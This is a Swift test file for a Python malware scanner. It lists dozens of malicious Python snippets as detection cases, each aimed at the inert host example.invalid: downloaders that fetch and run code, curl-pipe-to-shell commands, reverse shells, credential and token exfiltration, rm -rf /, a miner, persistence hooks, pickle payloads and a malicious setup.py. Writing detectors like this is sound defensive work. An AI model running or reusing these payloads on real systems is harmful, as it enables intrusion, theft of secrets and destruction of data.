import Scanning
import Testing

/// Programs that do harm. Their payloads are inert: hosts are below `example.invalid` (RFC 2606), which no name server knows.
@Suite struct MaliciousPythonTests {
    @Test(arguments: flows + gathered + commands + hidden + others)
    func isFound(program: CodeCase) async {
        let findings = await program.findings()
        let worst = findings.filter { $0.rule.id == program.rule }.map(\.severity).max()
        #expect(worst == program.severity, "found \(findings.map { "\($0.severity) \($0.rule.id): \($0.message)" })")
    }

    private static let u = "https://host.example.invalid/x"

    static let flows: [CodeCase] = [
        CodeCase("exec of what is fetched", "import requests\nexec(requests.get('\(u)').text)", "python-downloader"),
        CodeCase(
            "eval of what urllib fetches", "from urllib.request import urlopen as o\neval(o('\(u)').read())", "python-downloader"),
        CodeCase(
            "exec of what is fetched, compiled first",
            "import requests\nexec(compile(requests.get('\(u)').content, 'x', 'exec'))",
            "python-downloader"),
        CodeCase("a command that is fetched", "import os, requests\nos.system(requests.get('\(u)').text)", "python-downloader"),
        CodeCase(
            "a command that comes over a socket",
            "import socket, subprocess\ns = socket.socket()\ns.connect(('host.example.invalid', 1))\nsubprocess.run(s.recv(1024), shell=True)",
            "python-downloader"),
        CodeCase(
            "fetched in one function, run in another",
            "import requests\ndef get():\n  return requests.get('\(u)').text\ndef go():\n  exec(get())\ngo()", "python-downloader"
        ),
        CodeCase(
            "fetched, decoded, run", "import requests, base64\nexec(base64.b64decode(requests.get('\(u)').content))",
            "python-downloader"),
        CodeCase(
            "fetched in a method that a library calls",
            "import requests\nclass Model:\n  def forward(self, x):\n    exec(requests.get('\(u)').text)", "python-downloader",
            isEntry: true),
        CodeCase(
            "a pickle that is fetched", "import requests, pickle\npickle.loads(requests.get('\(u)').content)",
            "python-loads-pickle"),
        CodeCase(
            "a file that is fetched and run",
            "import urllib.request, os, subprocess\np = '/tmp/agent.bin'\nurllib.request.urlretrieve('\(u)', p)\nos.chmod(p, 0o755)\nsubprocess.Popen([p])",
            "python-downloader"),
        CodeCase(
            "a file that is written and run",
            "import requests, os\nwith open('/tmp/stage.py', 'wb') as f:\n  f.write(requests.get('\(u)').content)\nos.system('python /tmp/stage.py')",
            "python-downloader"),
        CodeCase(
            "a file that is fetched and loaded as a library",
            "import ctypes, urllib.request\nurllib.request.urlretrieve('\(u)', 'lib.so')\nctypes.CDLL('./lib.so')",
            "python-downloader"),
        CodeCase(
            "a file in a folder for temporary files that is fetched and run",
            "import os, tempfile, requests, subprocess\npath = os.path.join(tempfile.gettempdir(), 'a.exe')\nopen(path, 'wb').write(requests.get('\(u)').content)\nsubprocess.Popen(path)",
            "python-downloader"),
        CodeCase(
            "base64 that is run", "import base64\nexec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnaWQnKQ=='))",
            "python-decoded-execution"),
        CodeCase(
            "hexadecimal that is run", "exec(bytes.fromhex('7072696e74283129').decode())", "python-decoded-execution"),
        CodeCase(
            "letters moved by thirteen that are run", "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))",
            "python-decoded-execution"),
        CodeCase(
            "numbers of characters that are run", "exec(''.join(chr(c) for c in [112, 114, 105, 110, 116, 40, 49, 41]))",
            "python-decoded-execution"),
        CodeCase(
            "numbers of characters by map", "eval(''.join(map(chr, [112, 114, 105, 110, 116])))", "python-decoded-execution"),
        CodeCase(
            "compiled code that is run", "import marshal, base64\nexec(marshal.loads(base64.b64decode('4wAAAAAAAAAAAAAAAA==')))",
            "python-decoded-execution"),
        CodeCase(
            "compressed text that is run",
            "import zlib, base64\nexec(zlib.decompress(base64.b64decode('eJwrKMrMK9Ew1AQADxEC5Q==')))",
            "python-decoded-execution"),
        CodeCase(
            "encrypted text that is run",
            "from cryptography.fernet import Fernet\nexec(Fernet(b'0123456789abcdef0123456789abcdef').decrypt(b'gAAAAABkY0123456789'))",
            "python-decoded-execution"),
        CodeCase(
            "a lambda that decodes and runs",
            "_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\nexec((_)(b'==QAAAAAAAAAAAAAAAA'))",
            "python-decoded-execution"),
        CodeCase(
            "a key file that is sent",
            "import os, requests\nrequests.post('\(u)', data=open(os.path.expanduser('~/.ssh/id_rsa')).read())",
            "python-credential-theft"),
        CodeCase(
            "a file of credentials that is sent as a file",
            "import requests\nfrom pathlib import Path\np = Path.home() / '.aws' / 'credentials'\nrequests.post('\(u)', files={'f': p.read_text()})",
            "python-credential-theft"),
        CodeCase(
            "files of secrets in a loop",
            "import os, requests\nfor name in ['~/.netrc', '~/.kube/config']:\n  with open(os.path.expanduser(name)) as f:\n    requests.post('\(u)', json={'d': f.read()})",
            "python-credential-theft"),
        CodeCase(
            "the list of accounts", "import requests\nrequests.post('\(u)', data=open('/etc/passwd').read())",
            "python-credential-theft"),
        CodeCase(
            "the whole environment", "import os, requests\nrequests.post('\(u)', json=dict(os.environ))",
            "python-credential-theft"),
        CodeCase(
            "the whole environment in an address",
            "import os, urllib.request, urllib.parse\nurllib.request.urlopen('\(u)?' + urllib.parse.urlencode(os.environ))",
            "python-credential-theft"),
        CodeCase("a token", "import os, requests\nrequests.get('\(u)?t=' + os.environ['HF_TOKEN'])", "python-credential-theft"),
        CodeCase(
            "a token by getenv", "import os, requests\nrequests.post('\(u)', data={'k': os.getenv('OPENAI_API_KEY')})",
            "python-credential-theft"),
        CodeCase(
            "a token by a socket",
            "import os, socket\ns = socket.socket()\ns.connect(('host.example.invalid', 1))\ns.sendall(os.environ['AWS_SECRET_ACCESS_KEY'].encode())",
            "python-credential-theft"),
        CodeCase(
            "a token to a chat",
            "import os, requests\nrequests.post('https://discord.com/api/webhooks/0/x', json={'content': os.environ['HF_TOKEN']})",
            "python-credential-theft"),
        CodeCase(
            "the token file of a hub",
            "import os, requests\nt = open(os.path.expanduser('~/.cache/huggingface/token')).read()\nrequests.post('\(u)', data=t)",
            "python-credential-theft"),
        CodeCase(
            "behind a variable of the environment that has a default",
            "import os, requests\nif os.environ.get('CI', '0') != '0':\n  exec(requests.get('\(u)').text)", "python-downloader"),
        CodeCase(
            "the host's name", "import socket, requests\nrequests.post('\(u)', json={'h': socket.gethostname()})",
            "python-reconnaissance", .high),
        CodeCase(
            "the user's name by a look-up",
            "import getpass, socket\nsocket.gethostbyname(getpass.getuser() + '.host.example.invalid')",
            "python-reconnaissance", .high),
        CodeCase(
            "what a command says of the user",
            "import subprocess, requests\nrequests.post('\(u)', data=subprocess.check_output(['whoami']))",
            "python-reconnaissance", .high),
    ]

    static let gathered: [CodeCase] = [
        CodeCase(
            "a file under an attribute's path that is fetched and run",
            "import os, urllib.request\nclass A:\n  def __init__(self):\n    self.path = os.path.join(os.getenv('TEMP'), 'svc.exe')\n  def go(self):\n    with open(self.path, 'wb') as f:\n      f.write(urllib.request.urlopen('\(u)').read())\n    os.startfile(self.path)\nA().go()",
            "python-downloader"),
        CodeCase(
            "fetched by an asynchronous client",
            "import asyncio, aiohttp\nasync def main():\n  async with aiohttp.ClientSession() as s:\n    async with s.get('\(u)') as r:\n      exec(await r.text())\nasyncio.run(main())",
            "python-downloader"),
        CodeCase(
            "keys in an archive that is sent",
            "import glob, os, requests, zipfile\nz = zipfile.ZipFile('o.zip', 'w')\nfor f in glob.glob(os.path.expanduser('~/.ssh/*')): z.write(f)\nrequests.post('\(u)', files={'f': open('o.zip', 'rb')})",
            "python-credential-theft", .high),
        CodeCase(
            "a token that a library gives",
            "import requests\nfrom huggingface_hub import HfFolder\nrequests.post('\(u)', headers={'X': HfFolder.get_token()})",
            "python-credential-theft"),
        CodeCase(
            "accounts by a command",
            "import subprocess, requests\nrequests.post('\(u)', data=subprocess.getoutput('id; cat /etc/passwd'))",
            "python-credential-theft"),
        CodeCase("numbers that are run", "exec(bytes([112, 114, 105, 110, 116]).decode())", "python-decoded-execution"),
        CodeCase(
            "machine code in memory",
            "import ctypes\np = ctypes.windll.kernel32.VirtualAlloc(0, 3, 0x3000, 0x40)\nctypes.windll.kernel32.CreateThread(0, 0, p, 0, 0, 0)",
            "python-native-code"),
        CodeCase(
            "an entry of the registry",
            "import winreg\nwinreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')",
            "python-persistence"),
    ]

    static let commands: [CodeCase] = [
        CodeCase("a pipe into a shell", "import os\nos.system('curl -s \(u) | bash')", "python-downloader"),
        CodeCase(
            "a pipe into a shell, by words", "import subprocess\nsubprocess.run(['sh', '-c', 'wget -qO- \(u) | sh'])",
            "python-downloader"),
        CodeCase(
            "fetched and made to run", "import os\nos.system('wget \(u)/agent && chmod +x agent && ./agent')", "python-downloader"
        ),
        CodeCase(
            "a shell over the network", "import os\nos.system('bash -i >& /dev/tcp/host.example.invalid/1 0>&1')",
            "python-reverse-shell"),
        CodeCase("a shell by netcat", "import os\nos.popen('nc -e /bin/sh host.example.invalid 1')", "python-reverse-shell"),
        CodeCase(
            "a shell by a named pipe",
            "import os\nos.system('mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc host.example.invalid 1 > /tmp/f')",
            "python-reverse-shell"),
        CodeCase(
            "a shell tied to a socket",
            "import socket, os, pty\ns = socket.socket()\ns.connect(('host.example.invalid', 1))\nfor f in (0, 1, 2): os.dup2(s.fileno(), f)\npty.spawn('/bin/sh')",
            "python-reverse-shell"),
        CodeCase(
            "a shell tied to a socket, by subprocess",
            "import socket, subprocess\ns = socket.socket()\ns.connect(('host.example.invalid', 1))\nsubprocess.Popen(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno())",
            "python-reverse-shell"),
        CodeCase(
            "a shell in Python in a command",
            "import os\nos.system('python3 -c \"import socket,os,pty;s=socket.socket();s.connect((1,2));os.dup2(s.fileno(),0);pty.spawn(1)\"')",
            "python-reverse-shell"),
        CodeCase("encoded, by a pipe", "import os\nos.system('echo aWQ= | base64 -d | sh')", "python-decoded-execution"),
        CodeCase(
            "encoded, for PowerShell", "import subprocess\nsubprocess.run('powershell -enc aQBkAA==')", "python-decoded-execution"
        ),
        CodeCase("all files", "import os\nos.system('rm -rf /')", "python-destructive"),
        CodeCase("all files of the user", "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))", "python-destructive"),
        CodeCase(
            "a miner", "import subprocess\nsubprocess.Popen(['./xmrig', '-o', 'stratum+tcp://host.example.invalid:1'])",
            "python-crypto-miner"),
        CodeCase("a job", "import os\nos.system('(crontab -l; echo \"* * * * * sh x\") | crontab -')", "python-persistence"),
        CodeCase("a key", "import os\nos.system('echo ssh-rsa AAAA >> ~/.ssh/authorized_keys')", "python-persistence"),
        CodeCase("a calculator", "import os\nos.system('calc.exe')", "python-proof-of-concept", .high),
        CodeCase(
            "a calculator, by words", "import subprocess\nsubprocess.Popen(['gnome-calculator'])", "python-proof-of-concept",
            .high),
        CodeCase("a marker", "import os\nos.system('touch /tmp/pwned')", "python-proof-of-concept", .high),
        CodeCase("a boast", "import os\nos.system('echo you have been pwned')", "python-proof-of-concept", .high),
        CodeCase("the user's name", "import os\nos.system('whoami')", "python-reconnaissance", .high, isEntry: true),
        CodeCase(
            "the user's name, where only an import runs it", "import os\nos.system('whoami')", "python-reconnaissance", .high),
        CodeCase("a secret by curl", "import os\nos.system('curl -d @/etc/shadow \(u)')", "python-credential-theft"),
        CodeCase(
            "the environment by curl", "import os\nos.system('env | curl -X POST --data-binary @- \(u)')",
            "python-credential-theft"),
        CodeCase(
            "a command that is not known, at load", "import os, config\nos.system(config.command)", "python-runs-process", .high,
            isEntry: true),
        CodeCase(
            "a command that is not known, at import", "import os, config\nos.system(config.command)", "python-runs-process",
            .medium),
        CodeCase(
            "a file of Windows that is fetched", "import os\nos.system('certutil -urlcache -f \(u) a.exe')", "python-downloader"),
        CodeCase("by exec of the system", "import os\nos.execl('/bin/sh', 'sh', '-c', 'curl \(u) | sh')", "python-downloader"),
        CodeCase(
            "by a thread", "import threading, os\nthreading.Thread(target=os.system, args=('curl \(u) | sh',)).start()",
            "python-downloader"),
        CodeCase("by map", "import os\nlist(map(os.system, ['curl \(u) | sh']))", "python-downloader"),
    ]

    static let hidden: [CodeCase] = [
        CodeCase("a name in pieces", "getattr(__import__('o' + 's'), 'sys' + 'tem')('curl \(u) | sh')", "python-downloader"),
        CodeCase("a name in pieces is noted", "import os\ngetattr(os, 'sys' + 'tem')('ls')", "python-obfuscation", .high),
        CodeCase(
            "a name in the dictionary of a module", "import os\nos.__dict__['system'[::-1][::-1]]('curl \(u) | sh')",
            "python-downloader"),
        CodeCase(
            "letters of another alphabet",
            "import os\nos.\u{1d42c}\u{1d432}\u{1d42c}\u{1d42d}\u{1d41e}\u{1d426}('curl \(u) | sh')", "python-downloader"),
        CodeCase("letters of another alphabet are noted", "\u{1d41e}xec('1')", "python-obfuscation", .high),
        CodeCase("another name", "import os as math\nmath.system('curl \(u) | sh')", "python-downloader"),
        CodeCase("in text that is run", "exec(\"import os\\nos.system('curl \(u) | sh')\")", "python-downloader"),
        CodeCase(
            "in text within text", "exec(\"exec('import os; os.system(\\\\\\\"curl \(u) | sh\\\\\\\")')\")", "python-downloader"),
        CodeCase("by builtins", "import builtins\nbuiltins.exec(__import__('requests').get('\(u)').text)", "python-downloader"),
        CodeCase(
            "in a decorator", "import os\ndef d(f):\n  os.system('curl \(u) | sh')\n  return f\n@d\ndef g(): pass",
            "python-downloader"),
        CodeCase("in a default", "import os\ndef f(x=os.system('curl \(u) | sh')): pass", "python-downloader"),
        CodeCase("in a class body", "import os\nclass A:\n  x = os.system('curl \(u) | sh')", "python-downloader"),
        CodeCase("by partial", "import os, functools\nfunctools.partial(os.system, 'curl \(u) | sh')()", "python-downloader"),
        CodeCase("before what Python refuses", "import os\nos.system('curl \(u) | sh')\ndef broken(:\n", "python-downloader"),
    ]

    static let others: [CodeCase] = [
        CodeCase(
            "a pickle payload", "import os\nclass A:\n  def __reduce__(self):\n    return (os.system, ('id',))",
            "python-pickle-payload"),
        CodeCase(
            "a pickle payload of code", "class A:\n  def __reduce__(self):\n    return exec, ('1',)", "python-pickle-payload"),
        CodeCase(
            "a pickle payload of a program",
            "import subprocess\nclass A:\n  def __reduce_ex__(self, p):\n    return (subprocess.Popen, (('id',),))",
            "python-pickle-payload"),
        CodeCase("a start-up file", "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')", "python-persistence"),
        CodeCase(
            "a start-up file, by pathlib", "from pathlib import Path\n(Path.home() / '.bashrc').write_text('x')",
            "python-persistence"),
        CodeCase("a unit", "open('/etc/systemd/system/x.service', 'w').write('x')", "python-persistence"),
        CodeCase(
            "a file that Python reads as it starts",
            "import site, os\nopen(os.path.join(site.getsitepackages()[0], 'x.pth'), 'w').write('import x')", "python-persistence"
        ),
        CodeCase("a file of the system", "open('/etc/hosts', 'a').write('x')", "python-writes-files-outside", .medium),
        CodeCase("code in a file of data", "exec(open('weights.bin').read())", "python-dynamic-code", .high),
        CodeCase(
            "compiled code", "import importlib.util\nimportlib.util.spec_from_file_location('a', 'a.pyc')", "python-native-code",
            .high),
        CodeCase(
            "a setup that runs what it fetches",
            "from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass I(install):\n  def run(self):\n    os.system('curl \(u) | sh')\nsetup(cmdclass={'install': I})",
            "python-downloader", in: "setup.py"),
        CodeCase(
            "a setup that runs a command that is not known", "import os, helper\nos.system(helper.command)",
            "python-setup-runs-code", .medium, in: "setup.py"),
        CodeCase(
            "a chat that is talked to", "import requests\nrequests.post('https://api.telegram.org/bot0/sendMessage')",
            "python-suspicious-host", .high),
        CodeCase("what Python refuses", "def f(:\n  pass", "python-not-parsed", .medium),
        CodeCase("in a cell", notebook("import requests", "exec(requests.get('\(u)').text)"), "python-downloader", in: "a.ipynb"),
        CodeCase("in a line for the shell", notebook("!curl -s \(u) | bash"), "shell-download-and-run", .high, in: "a.ipynb"),
        CodeCase(
            "in a cell for the shell", notebook("%%bash\necho aWQ= | base64 -d | sh"), "shell-encoded-command", in: "a.ipynb"),
    ]
}
